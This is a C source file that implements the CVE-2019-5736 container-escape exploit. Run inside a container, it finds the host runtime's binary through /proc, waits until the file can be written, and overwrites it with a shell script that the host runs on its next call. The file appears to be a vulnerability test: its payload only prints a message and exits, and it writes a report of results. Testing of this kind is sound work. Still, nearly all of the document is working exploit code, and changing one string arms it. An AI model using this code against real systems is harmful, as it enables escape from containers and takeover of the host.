/* The CVE-2019-5736 attacker, run inside a container.
 *
 * usage: exe_attack DIR
 *
 * Until DIR/stop exists (and once more after that), it looks at every process it can see in
 * /proc, opens /proc/<pid>/exe with O_PATH for every binary that is neither its own nor
 * /bin/busybox (so: a runtime's binary, seen while one of its processes waits in the
 * container), and keeps reopening each handle through /proc/self/fd/N for writing, which the
 * kernel refuses with ETXTBSY only while the file is being executed. When a reopen succeeds it
 * replaces the file with a shell script: the host's next call of the runtime would run it.
 *
 * DIR/seen is created at the first sighting of a foreign process (a handle, or a refusal to
 * give one: EACCES/EPERM); DIR/report is written at the end:
 *   sightings=N handles=N overwritten=N
 *   handle pid=P size=S result=ERRNO-NAME|OVERWRITTEN
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

struct handle { int fd, pid, err, overwritten; dev_t dev; ino_t ino; off_t size; };

static const char *errname(int e) {
    switch (e) {
    case 0: return "none";
    case EROFS: return "EROFS";
    case ETXTBSY: return "ETXTBSY";
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    default: { static char b[16]; snprintf(b, sizeof b, "E%d", e); return b; }
    }
}

static const char payload[] = "#!/bin/sh\necho 'the runtime binary was overwritten from a container' >&2\nexit 66\n";

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: exe_attack DIR\n"); return 2; }
    char stop[512], seen[512], report[512], tmp[520];
    snprintf(stop, sizeof stop, "%s/stop", argv[1]);
    snprintf(seen, sizeof seen, "%s/seen", argv[1]);
    snprintf(report, sizeof report, "%s/report", argv[1]);
    struct stat self, bb;
    if (stat("/proc/self/exe", &self) || stat("/bin/busybox", &bb)) { perror("stat"); return 2; }
    struct handle hs[64];
    int n = 0, sightings = 0, overwritten = 0, last_round = 0;
    for (;;) {
        if (access(stop, F_OK) == 0) last_round++;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) {
                    if (!sightings++) close(open(seen, O_CREAT | O_WRONLY, 0644));
                }
                continue;
            }
            struct stat st;
            int known = fstat(fd, &st) != 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                        (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino);
            for (int i = 0; i < n && !known; i++) known = hs[i].dev == st.st_dev && hs[i].ino == st.st_ino;
            if (known || n == 64) { close(fd); continue; }
            hs[n++] = (struct handle){ .fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino, .size = st.st_size };
            if (!sightings++) close(open(seen, O_CREAT | O_WRONLY, 0644));
        }
        if (d) closedir(d);
        for (int i = 0; i < n; i++) {
            if (hs[i].overwritten) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", hs[i].fd);
            int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
            if (w < 0) { hs[i].err = errno; continue; }
            if (write(w, payload, sizeof payload - 1) == (ssize_t)(sizeof payload - 1)) {
                hs[i].overwritten = 1;
                overwritten++;
            } else {
                hs[i].err = errno;
            }
            close(w);
        }
        if (last_round > 20) break;
        usleep(last_round ? 50000 : 200);
    }
    snprintf(tmp, sizeof tmp, "%s.tmp", report);
    FILE *f = fopen(tmp, "w");
    if (!f) { perror("report"); return 2; }
    fprintf(f, "sightings=%d handles=%d overwritten=%d\n", sightings, n, overwritten);
    for (int i = 0; i < n; i++)
        fprintf(f, "handle pid=%d size=%lld result=%s\n", hs[i].pid, (long long)hs[i].size,
                hs[i].overwritten ? "OVERWRITTEN" : errname(hs[i].err));
    fclose(f);
    rename(tmp, report);
    return 0;
}
